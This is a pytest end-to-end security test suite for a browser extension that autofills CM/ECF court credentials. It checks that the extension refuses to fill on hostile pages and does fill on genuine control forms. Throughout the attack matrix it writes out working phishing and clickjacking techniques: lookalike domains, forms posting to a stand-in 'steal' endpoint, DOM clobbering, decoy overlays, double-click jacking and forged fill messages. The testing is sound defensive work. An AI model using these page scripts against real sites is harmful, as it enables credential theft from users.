"""Pages that try to get the stored CM/ECF login: each must get no fill and no secret, in both browsers.

Every page is loaded in a browser whose keyring holds the TXWD login; where the overlay offers the
fill button, the test clicks it as a user would. Then no field on the page (or in its frames) may
hold the password, and the host must not have released it. A control page (the genuine form,
same harness) must be filled, so the matrix cannot pass by never clicking.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from urllib.parse import urlsplit

import pytest
from selenium.common.exceptions import WebDriverException
from selenium.webdriver.common.action_chains import ActionChains
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys

from ecflink.practice.browsers import BROWSERS, host_processes, press_panel_shortcut, read_hint, stop_background
from ecflink.credentials import CredentialStore
from ecflink.practice.sim.network import Response
from tests.e2e.helpers import (
    extension_reach,
    host_log,
    parse_reports,
    rendered_after_answer,
    require_browser,
    wait_for,
)

pytestmark = [pytest.mark.e2e, pytest.mark.security]

LOGIN, SECRET = "jdoe", "Ecf-Txwd-S3cret!"
COURT = "https://ecf.txwd.uscourts.gov"
MENU = (
    '<div id="topmenu" class="yuimenubar"><div class="bd"><ul class="first-of-type">'
    '<li class="yuimenubaritem"><a class="yuimenubaritemlabel" href="/cgi-bin/DisplayMenu.pl?Utilities">Utilities</a></li>'
    '<li class="yuimenubaritem"><a class="yuimenubaritemlabel" href="/cgi-bin/login.pl?logout">Log Out</a></li>'
    "</ul></div></div>"
)


def link_form(
    action="/cgi-bin/LinkAcct.pl",
    login_attrs="",
    password_attrs="",
    password_type="password",
    wrapper_style="",
    submit_attrs="",
    form_attrs="",
    method="post",
    inside="",
) -> str:
    return (
        f'<form method="{method}" action="{action}" {form_attrs}><div style="{wrapper_style}">'
        "<h3>Link a CM/ECF account to my PACER account</h3>"
        f'<p><label>CM/ECF login <input type="text" name="ecf_login" {login_attrs}></label></p>'
        f'<p><label>CM/ECF password <input type="{password_type}" name="ecf_password" {password_attrs}></label></p>'
        f'{inside}<p><input type="submit" value="Submit" {submit_attrs}></p></div></form>'
    )


def page(content: str, script: str = "") -> str:
    return (
        f"<!DOCTYPE html><html><head><title>CM/ECF</title></head><body>{MENU}"
        f'<div id="cmecfMainContent">{content}</div>'
        f"{f'<script>{script}</script>' if script else ''}</body></html>"
    )


# Page scripts an attacker could run in a court page.
# Every way a page could ask for the fill itself, run by the test once ecflink's button is active
# (window.forge). The page's own listener for its forged message runs in the same dispatch as any
# other window listener; it marks the forgery done (Attack.settled), so the test judges after it.
FORGE = """
addEventListener("message", (event) => {
  if (event.data?.type === "fill") document.documentElement.dataset.forged = "done";
});
window.forge = () => {
  const host = document.querySelector("[data-ecflink]");
  for (const type of ["pointerdown", "mousedown", "mouseup", "click"]) host?.dispatchEvent(new MouseEvent(type, {bubbles: true}));
  try { chrome.runtime.sendMessage("dnoemiijmalcmkkakcjacpiboohkbigg", {type: "fill"}); } catch (e) {}
  try { browser.runtime.sendMessage("ecflink@ecflink.org", {type: "fill"}); } catch (e) {}
  window.postMessage({type: "fill"}, "*");
};"""
COVER = """
new MutationObserver(() => {
  if (!document.querySelector("[data-ecflink]") || document.getElementById("decoy")) return;
  const decoy = document.createElement("div");
  decoy.id = "decoy";
  decoy.textContent = "Click here to continue";
  decoy.style.cssText = "position:fixed;right:0;bottom:0;width:420px;height:260px;background:#fff;z-index:2147483647;pointer-events:none";
  document.documentElement.append(decoy);
}).observe(document.documentElement, {childList: true});"""
FADE = "document.documentElement.style.opacity = '0.05';"
STEAL = "https://www.example-firm.test/steal"
# Changes the form's action once the click has reached ecflink's overlay: while ecflink asks its
# helper app for the login (usually), or before ecflink's first check (if the page is slow).
RETARGET = f"""
document.addEventListener("click", (event) => {{
  if (event.target.matches?.("[data-ecflink]")) setTimeout(() => document.forms[0].setAttribute("action", "{STEAL}"));
}}, true);"""
# Click guards (audit F4, F12; its attack pages 6-8): a page cannot cover, move, scale, mask or fade
# ecflink's panel and still have a click on it count.
AFTER_COVER = (
    "html::after{content:'Continue';position:fixed;right:0;bottom:0;width:420px;height:260px;"
    "background:#fff;z-index:2147483647;pointer-events:none}"
)
ROOT_STYLES = {
    # Mild enough to leave the link form's fields plainly visible (else no fill is offered at all).
    "root translated": "html{translate:4px -30px}",
    "root scaled": "html{scale:.6}",
    "root zoomed": "html{zoom:.6}",
    "root masked": "html{mask-image:linear-gradient(transparent,transparent);"
    "-webkit-mask-image:linear-gradient(transparent,transparent)}",
    "root contained": "html{contain:paint;height:200px}",
}
# Rules on ecflink's host element: the inline pins outweigh them, so the panel stays where and as
# ecflink draws it, and a click on it is an informed one (these pages are filled, see NEUTRAL).
HOST_STYLES = {
    "host translated": "[data-ecflink]{translate:-40vw -40vh}",
    "host scaled": "[data-ecflink]{scale:.2 !important}",
    "host zoomed": "[data-ecflink]{zoom:.2}",
    "host masked": "[data-ecflink]{mask-image:linear-gradient(transparent,transparent);"
    "-webkit-mask-image:linear-gradient(transparent,transparent)}",
    "text made transparent": "[data-ecflink]{-webkit-text-fill-color:transparent;color:transparent}",
    "root font shrunk": "html{font-size:1px}",
}
# A script that rewrites the host's own inline style (the pins) as soon as the panel appears.
UNPIN = """
new MutationObserver(() => {
  const host = document.querySelector("[data-ecflink]");
  if (host && !host.hasAttribute("data-unpinned")) {
    host.setAttribute("data-unpinned", "");
    host.style.cssText = "position:fixed;inset:0;z-index:2147483647;pointer-events:none;translate:-30vw -30vh";
  }
}).observe(document.documentElement, {childList: true});"""
# "Double-click to continue": on the first press, the page shifts so that ecflink's button lies under
# the pointer for the second (window.aim holds the button's centre, measured by the test).
DOUBLE = """
const box = document.createElement("div");
box.id = "decoy";
box.textContent = "Double-click to continue";
box.style.cssText = "position:fixed;right:20px;bottom:220px;width:200px;height:40px;background:#eee";
document.body.append(box);
box.addEventListener("mousedown", (event) => {
  // Once the root is translated, it (not the viewport) holds ecflink's fixed layer: measure there.
  const root = document.documentElement;
  const [x, y] = window.aim ?? [innerWidth - 100, innerHeight - 40];
  const [fromRight, fromBottom] = [root.clientWidth - x, root.clientHeight - y];
  root.style.translate = "0px 0px";
  const layer = document.querySelector("[data-ecflink]").getBoundingClientRect();
  const [bx, by] = [layer.right - fromRight, layer.bottom - fromBottom];
  root.style.translate = `${event.clientX - bx}px ${event.clientY - by}px`;
}, {once: true});"""

# On the login field's first input event (ecflink's fill), shows the password field as text.
SWAP = """
document.querySelector("[name=ecf_login]").addEventListener("input", () => {
  document.querySelector("[name=ecf_password]").type = "text";
}, {once: true});"""


@dataclass(frozen=True)
class Attack:
    name: str
    url: str
    html: str
    offered: bool = False  # the overlay offers the fill button (the refusal happens at the click); fields
    # the browser does not draw are not a link form at all, so no button is offered there
    click: str = "when-active"  # or "at-once" or "never"
    headers: list = field(default_factory=list)
    refusal: str = ""  # what the overlay's note must say after the click
    released: bool | None = False  # the host releases the login to ecflink's own content script, which
    # then refuses the page (it changed between the click and the fill); None: either may happen
    settled: str = ""  # a script expression, true once the page's own attack has run (started by
    # the test with window.forge() once ecflink's button is active)


FRAME_PAGE = page("<p>Welcome.</p>").replace("</div></body>", "{frame}</div></body>")
ATTACKS = [
    Attack("lookalike ecf-txwd", "https://ecf-txwd.uscourts.gov/cgi-bin/LinkAcct.pl", page(link_form())),
    Attack("lookalike xecf.txwd", "https://xecf.txwd.uscourts.gov/cgi-bin/LinkAcct.pl", page(link_form())),
    Attack("lookalike suffix", "https://ecf.txwd.uscourts.gov.evil.example/cgi-bin/LinkAcct.pl", page(link_form())),
    Attack("uscourts.gov, not a court", "https://www.uscourts.gov/link", page(link_form())),
    Attack("another site", "https://www.example-firm.test/link", page(link_form())),
    Attack("appellate court host", "https://ecf.ca5.uscourts.gov/link", page(link_form())),
    Attack("plain http", "http://ecf.txwd.uscourts.gov/cgi-bin/HttpLink.pl", page(link_form())),
    Attack(
        "cross-origin iframe",
        f"{COURT}/cgi-bin/showpage.pl?frame1",
        FRAME_PAGE.format(frame='<iframe src="https://www.example-firm.test/link" width="600" height="300"></iframe>'),
    ),
    Attack(
        "lookalike iframe",
        f"{COURT}/cgi-bin/showpage.pl?frame2",
        FRAME_PAGE.format(
            frame='<iframe src="https://ecf-txwd.uscourts.gov/cgi-bin/LinkAcct.pl" width="600" height="300"></iframe>'
        ),
    ),
    Attack(
        "same-origin iframe",
        f"{COURT}/cgi-bin/showpage.pl?frame3",
        FRAME_PAGE.format(frame=f'<iframe src="{COURT}/cgi-bin/LinkAcct.pl?framed" width="600" height="300"></iframe>'),
    ),
    Attack(
        "sandboxed iframe",
        f"{COURT}/cgi-bin/showpage.pl?frame4",
        FRAME_PAGE.format(
            frame=f'<iframe sandbox="allow-scripts allow-forms" srcdoc=\'{page(link_form())}\' width="600" height="300"></iframe>'
        ),
    ),
    Attack(
        "sandboxed page (opaque origin)",
        f"{COURT}/cgi-bin/LinkAcct.pl?sandboxed",
        page(link_form()),
        headers=[("Content-Security-Policy", "sandbox allow-scripts allow-forms")],
    ),
    Attack(
        "hidden login field", f"{COURT}/cgi-bin/LinkAcct.pl?a1", page(link_form(login_attrs='style="display:none"'))
    ),
    Attack(
        "invisible password field",
        f"{COURT}/cgi-bin/LinkAcct.pl?a2",
        page(link_form(password_attrs='style="visibility:hidden"')),
    ),
    Attack(
        "zero-size password field",
        f"{COURT}/cgi-bin/LinkAcct.pl?a3",
        page(link_form(password_attrs='style="width:0;height:0;padding:0;border:0"')),
    ),
    Attack("transparent fields", f"{COURT}/cgi-bin/LinkAcct.pl?a4", page(link_form(wrapper_style="opacity:0"))),
    Attack(
        "off-screen fields",
        f"{COURT}/cgi-bin/LinkAcct.pl?a5",
        page(link_form(wrapper_style="position:absolute;left:-10000px;top:-10000px")),
        True,
    ),
    Attack(
        "disabled password field", f"{COURT}/cgi-bin/LinkAcct.pl?a6", page(link_form(password_attrs="disabled")), True
    ),
    Attack("read-only login field", f"{COURT}/cgi-bin/LinkAcct.pl?a7", page(link_form(login_attrs="readonly")), True),
    Attack("password shown as text", f"{COURT}/cgi-bin/LinkAcct.pl?a8", page(link_form(password_type="text"))),
    Attack(
        "form posts to another site",
        f"{COURT}/cgi-bin/LinkAcct.pl?a9",
        page(link_form(action="https://www.example-firm.test/steal")),
        True,
    ),
    Attack(
        "form posts over http",
        f"{COURT}/cgi-bin/LinkAcct.pl?a10",
        page(link_form(action="http://ecf.txwd.uscourts.gov/cgi-bin/LinkAcct.pl")),
        True,
    ),
    Attack(
        "button posts to another site",
        f"{COURT}/cgi-bin/LinkAcct.pl?a11",
        page(link_form(submit_attrs='formaction="https://www.example-firm.test/steal"')),
        True,
    ),
    Attack(
        "fill forged by page script",
        f"{COURT}/cgi-bin/LinkAcct.pl?a12",
        page(link_form(), FORGE),
        True,
        "never",
        settled="document.documentElement.dataset.forged === 'done'",
    ),
    Attack("no click at all", f"{COURT}/cgi-bin/LinkAcct.pl?a13", page(link_form()), True, "never"),
    Attack("overlay covered by a decoy", f"{COURT}/cgi-bin/LinkAcct.pl?a14", page(link_form(), COVER), True),
    Attack("page made transparent", f"{COURT}/cgi-bin/LinkAcct.pl?a15", page(link_form(), FADE), True),
    Attack("click before the button is active", f"{COURT}/cgi-bin/LinkAcct.pl?a16", page(link_form()), True, "at-once"),
    # Judged as the browser submits (security audit F1, F2, F10, F11; its attack pages 1-5, 9, 10).
    Attack(
        "submit button outside the form",
        f"{COURT}/cgi-bin/LinkAcct.pl?f1",
        page(link_form(form_attrs='id="lf"') + f'<button form="lf" formaction="{STEAL}">Submit</button>'),
        True,
        refusal="a button in the form would send your login to another site.",
    ),
    Attack(
        "off-screen default button before the form",
        f"{COURT}/cgi-bin/LinkAcct.pl?f2",
        page(
            f'<input type="submit" form="lf" formaction="{STEAL}" style="position:absolute;left:-9999px">'
            + link_form(form_attrs='id="lf"')
        ),
        True,
        refusal="a button in the form would send your login to another site.",
    ),
    Attack(
        "fields owned by another form",
        f"{COURT}/cgi-bin/LinkAcct.pl?f3",
        page(
            f'<form id="x" method="post" action="{STEAL}"></form>'
            + link_form(login_attrs='form="x"', password_attrs='form="x"', submit_attrs='form="x"')
        ),
        True,
        refusal="the form would send your login to another site.",
    ),
    Attack(
        "action clobbered by a field named action",
        f"{COURT}/cgi-bin/LinkAcct.pl?f4",
        page(link_form(action=STEAL, inside='<input type="hidden" name="action">')),
        True,
        refusal="the form would send your login to another site.",
    ),
    Attack(
        "form.elements clobbered",
        f"{COURT}/cgi-bin/LinkAcct.pl?f5",
        page(
            link_form(
                action=STEAL,
                inside='<input type="hidden" name="elements"><input type="hidden" '
                'name="querySelectorAll"><input type="hidden" name="method">',
            )
        ),
        True,
        refusal="the form would send your login to another site.",
    ),
    Attack(
        "GET form",
        f"{COURT}/cgi-bin/LinkAcct.pl?f6",
        page(link_form(method="get")),
        True,
        refusal="the form would put your login in the page address.",
    ),
    Attack(
        "submit button with formmethod=get",
        f"{COURT}/cgi-bin/LinkAcct.pl?f7",
        page(link_form(submit_attrs='formmethod="get"')),
        True,
        refusal="a button in the form would put your login in the page address.",
    ),
    Attack(
        "submit button with a formtarget",
        f"{COURT}/cgi-bin/LinkAcct.pl?f8",
        page(link_form(submit_attrs='formtarget="stolen"')),
        True,
        refusal="a button in the form would send your login to another window.",
    ),
    Attack(
        "javascript: action",
        f"{COURT}/cgi-bin/LinkAcct.pl?f9",
        page(link_form(action="javascript:void(0)")),
        True,
        refusal="the form would send your login to another site.",
    ),
    Attack(
        "a plain button element posting elsewhere",
        f"{COURT}/cgi-bin/LinkAcct.pl?f10",
        page(link_form(inside=f'<button formaction="{STEAL}">Check</button>')),
        True,
        refusal="a button in the form would send your login to another site.",
    ),
    Attack(
        "retargeted between click and fill",
        f"{COURT}/cgi-bin/LinkAcct.pl?f11",
        page(link_form(), RETARGET),
        True,
        refusal="the form would send your login to another site.",
        released=None,
    ),
    Attack(
        "fields swapped during fill",
        f"{COURT}/cgi-bin/LinkAcct.pl?f12",
        page(link_form(), SWAP),
        True,
        refusal="ecflink did not fill this form",
        released=True,
    ),
    Attack(
        "root ::after drawn over the panel",
        f"{COURT}/cgi-bin/LinkAcct.pl?c1",
        page(f"<style>{AFTER_COVER}</style>" + link_form()),
        True,
        refusal="something was placed over ecflink's panel.",
    ),
    # (A masked-out panel may not get the click at all: Chromium does not hit-test masked-out content.)
    *[
        Attack(
            name,
            f"{COURT}/cgi-bin/LinkAcct.pl?c2-{index}",
            page(f"<style>{css}</style>" + link_form()),
            True,
            click="pointer",
            refusal="" if "mask" in css else "the page moved or hid ecflink's panel.",
        )
        for index, (name, css) in enumerate(ROOT_STYLES.items())
    ],
    Attack(
        "host's pins rewritten by script",
        f"{COURT}/cgi-bin/LinkAcct.pl?c3",
        page(link_form(), UNPIN),
        True,
        click="pointer",
        refusal="the page moved or hid ecflink's panel.",
    ),
    # (The form lower on the page, so that the shift leaves its fields in view and fillable.)
    Attack(
        "double-click jacking",
        f"{COURT}/cgi-bin/LinkAcct.pl?c4",
        page('<div style="height:320px"></div>' + link_form(), DOUBLE),
        True,
        click="double",
        refusal="the page moved or hid ecflink's panel.",
    ),
    Attack(
        "Enter on the button, focused without ecflink's shortcut",
        f"{COURT}/cgi-bin/LinkAcct.pl?c5",
        page(link_form()),
        True,
        click="keyboard",
        refusal="from the keyboard, ecflink takes this button only after its own shortcut",
    ),
]
CONTROL = Attack("control: the genuine form", f"{COURT}/cgi-bin/LinkAcct.pl?control", page(link_form()), True)
# Fields and Submit that stand outside their form but belong to it (form=, as a table layout may
# need): the browser posts them with the form, to the court, so ecflink fills.
OWNED_CONTROL = Attack(
    "control: fields tied to the form by form=",
    f"{COURT}/cgi-bin/LinkAcct.pl?control2",
    page(
        '<form id="lf" method="post" action="/cgi-bin/LinkAcct.pl"></form>'
        "<h3>Link a CM/ECF account to my PACER account</h3><table>"
        '<tr><td><label for="l">CM/ECF login</label></td><td><input id="l" type="text" name="ecf_login" form="lf"></td></tr>'
        '<tr><td><label for="p">CM/ECF password</label></td><td><input id="p" type="password" name="ecf_password" '
        'form="lf"></td></tr></table><p><input type="submit" value="Submit" form="lf"></p>'
    ),
    True,
)
SHORTCUT_CONTROL = Attack(
    "control: Enter after ecflink's own shortcut",
    f"{COURT}/cgi-bin/LinkAcct.pl?control3",
    page(link_form()),
    True,
    click="shortcut",
)
NEUTRAL = [
    Attack(
        f"control: {name}",
        f"{COURT}/cgi-bin/LinkAcct.pl?n{index}",
        page(f"<style>{css}</style>" + link_form()),
        True,
        click="pointer",
    )
    for index, (name, css) in enumerate(HOST_STYLES.items())
]
CONTROLS = [CONTROL, OWNED_CONTROL, SHORTCUT_CONTROL, *NEUTRAL]
SAME_ORIGIN_FORM = f"{COURT}/cgi-bin/LinkAcct.pl?framed"


def serve(attacks: list[Attack]):
    pages = {a.url: a for a in attacks}
    pages[SAME_ORIGIN_FORM] = Attack("framed form", SAME_ORIGIN_FORM, page(link_form()))
    pages[BARRIER] = Attack("the next page", BARRIER, page("<p>Choose a menu.</p>"))

    def app(request):
        attack = pages.get(f"{request.scheme}://{request.host}{request.path}")
        if attack is None:
            return Response(404, b"<h1>Not Found</h1>")
        return Response(body=attack.html.encode(), headers=list(attack.headers))

    return app


# Fills the host released in each armed browser, and the least and most its tests expect.
RELEASES: dict[str, list[int]] = {}


@pytest.fixture(scope="module", params=BROWSERS)
def armed_browser(request, running_browsers, network, keyring_daemon):
    """The worker's browser for the whole matrix, its host holding the TXWD login in the keyring.
    At the end its background is stopped: its hosts read and answer every request they were sent,
    then exit. The log must then hold exactly the releases the tests expected: a fill that came
    after its test had judged its page is counted here."""
    require_browser(request.param)
    session = running_browsers.fresh(request.param)
    network.app = serve(ATTACKS + CONTROLS)
    store = CredentialStore(session.data_dir / "credentials.json")
    store.set("txwd", LOGIN, SECRET)
    RELEASES[str(session.folder)] = [0, 0]
    yield session
    store.delete("txwd")
    stop_background(session)
    wait_for(lambda: not host_processes(session), what="the hosts to exit")
    least, most = RELEASES.pop(str(session.folder))
    assert least <= host_log(session).count("fill: released") <= most


def overlay_button(driver):
    """The overlay's "Fill CM/ECF login" button, if shown (other buttons, such as "I have already
    linked this court" on a page without filing menus, are not what an attack is after)."""
    hosts = driver.find_elements(By.CSS_SELECTOR, "[data-ecflink=overlay]")
    if not hosts:
        return None
    buttons = hosts[0].shadow_root.find_elements(By.CSS_SELECTOR, ".action")
    shown = buttons[0] if buttons and buttons[0].is_displayed() else None
    return shown if shown and shown.text == "Fill CM/ECF login" else None


def overlay_note(driver) -> str:
    hosts = driver.find_elements(By.CSS_SELECTOR, "[data-ecflink=overlay]")
    return hosts[0].shadow_root.find_element(By.CSS_SELECTOR, ".note").get_attribute("textContent") if hosts else ""


def field_values(driver) -> list[str]:
    """Every input's value in the page and in each of its frames."""
    values = driver.execute_script("return [...document.querySelectorAll('input')].map(i => i.value)")
    for index in range(len(driver.find_elements(By.TAG_NAME, "iframe"))):
        try:
            driver.switch_to.frame(index)
            values += driver.execute_script("return [...document.querySelectorAll('input')].map(i => i.value)")
        except WebDriverException:
            pass  # a frame that cannot be entered holds nothing ecflink put there
        finally:
            driver.switch_to.default_content()
    return values


def press(session, button, how: str) -> None:
    """Use ecflink's button as a user would: a click on it, a pointer click at its box, a double
    click on the page's decoy, Enter on it, or ecflink's keyboard shortcut and then Enter."""
    driver = session.driver
    if how in ("when-active", "at-once"):
        button.click()
    elif how == "pointer":
        ActionChains(driver).move_to_element(button).click().perform()
    elif how == "double":
        box = button.rect
        driver.execute_script("window.aim = arguments[0]", [box["x"] + box["width"] / 2, box["y"] + box["height"] / 2])
        ActionChains(driver).double_click(driver.find_element(By.ID, "decoy")).perform()
    elif how == "keyboard":  # Tab from the password field, past Submit, to ecflink's button; then Enter
        driver.find_element(By.NAME, "ecf_password").click()
        ActionChains(driver).send_keys(Keys.TAB, Keys.TAB, Keys.ENTER).perform()
    elif how == "shortcut":
        press_panel_shortcut(session)
        ActionChains(driver).send_keys(Keys.ENTER).perform()


BARRIER = f"{COURT}/cgi-bin/barrier.pl"  # a court page after each attack's, in the same tab
REACH = extension_reach()  # the hosts the content scripts run on (the manifest, read once)


def judged(session, before: int) -> None:
    """The extension has judged the page just loaded: where its content script runs, the host has
    answered the page's facts (logged after `before`) and, unless it named no step, the panel drawn
    from that answer (which would carry the fill button) is shown; where it does not run, nothing
    of ecflink's can act."""
    driver = session.driver
    address = urlsplit(driver.current_url)
    if address.scheme == "https" and address.hostname in REACH:
        report = wait_for(lambda: reports_since(session, before), 10, "the host's answer to the page")[-1]
        if report["kind"] != "unknown":
            read_hint(driver)
        rendered_after_answer(driver)


def reports_since(session, before: int) -> list[dict]:
    return parse_reports(host_log(session)[before:])


def through_barrier(session, before: int) -> str:
    """The host log from `before` up to the report of a court page loaded next in the same tab:
    whatever ecflink sent the host from the page before (a fill request, say) came first, as the
    background hands a port's requests to the host in order."""
    driver = session.driver
    mark = len(host_log(session))
    driver.get(BARRIER)
    wait_for(lambda: reports_since(session, mark), 10, "the host's answer to the next page")
    log = host_log(session)
    return log[before : mark + log[mark:].index("page report")]


def after_click(session, attack: Attack) -> None:
    """Waits for what the click leads to, where it leads to something later: the fill (a control),
    or the refusal the attack must get. Every other refusal is said as the click is handled, or the
    click is not taken at all; a fill requested anyway reaches the host before the next page's
    report (through_barrier), and is counted again when the matrix ends."""
    driver = session.driver
    expected = "Filled." if attack in CONTROLS else attack.refusal
    if expected:
        wait_for(lambda: expected in overlay_note(driver), 10, f"{expected!r} in the panel", (WebDriverException,))


def try_attack(session, attack: Attack) -> tuple[bool, int]:
    """Load the page, click "Fill" as a user would if offered; returns whether it was offered, and
    where the host log stood before (for through_barrier, once the page has been looked at)."""
    driver = session.driver
    before = len(host_log(session))
    driver.get(attack.url)
    if attack.offered:
        button = wait_for(lambda: overlay_button(driver), 10, f"the fill button on {attack.name}")
    else:
        judged(session, before)
        button = overlay_button(driver)
    if attack.settled:
        wait_for(lambda: button.get_attribute("aria-disabled") == "false", 5, "the button to become active")
        driver.execute_script("window.forge()")
        wait_for(lambda: driver.execute_script(f"return {attack.settled}"), 10, "the page's own attack")
    if button and attack.click != "never":
        least, most = RELEASES[str(session.folder)]
        gives = attack in CONTROLS or attack.released is True
        RELEASES[str(session.folder)] = [least + gives, most + (gives or attack.released is None)]
        if attack.click != "at-once":
            wait_for(lambda: button.get_attribute("aria-disabled") == "false", 5, "the button to become active")
        try:
            press(session, button, attack.click)
        except WebDriverException:
            pass  # the click was intercepted: it did not reach ecflink
        after_click(session, attack)
    return button is not None, before


@pytest.mark.parametrize("attack", ATTACKS, ids=[a.name for a in ATTACKS])
def test_attack_gets_no_fill_and_no_secret(armed_browser, attack):
    offered, before = try_attack(armed_browser, attack)
    assert offered == attack.offered
    assert SECRET not in field_values(armed_browser.driver)
    if attack.refusal:
        assert attack.refusal in overlay_note(armed_browser.driver)
    log = through_barrier(armed_browser, before)
    assert attack.released is None or ("fill: released" in log) == attack.released


def test_matrix_is_large_enough():
    assert len(ATTACKS) >= 20


@pytest.mark.parametrize("control", CONTROLS, ids=[c.name for c in CONTROLS])
def test_control_the_genuine_form_is_filled(armed_browser, control):
    offered, before = try_attack(armed_browser, control)
    assert offered
    assert SECRET in field_values(armed_browser.driver)
    assert "Filled." in overlay_note(armed_browser.driver)
    # The panel was where and as ecflink draws it: 16 px from the bottom right, full size.
    drawn = armed_browser.driver.execute_script(
        "return [innerWidth - document.documentElement.clientWidth, innerWidth, innerHeight]"
    )
    panel = (
        armed_browser.driver.find_element(By.CSS_SELECTOR, "[data-ecflink=overlay]")
        .shadow_root.find_element(By.CSS_SELECTOR, ".panel")
        .rect
    )
    assert panel["width"] >= 200 and panel["height"] >= 60
    assert drawn[1] - drawn[0] - 17.5 <= panel["x"] + panel["width"] <= drawn[1] - 14.5
    assert "fill: released the txwd CM/ECF login" in through_barrier(armed_browser, before)
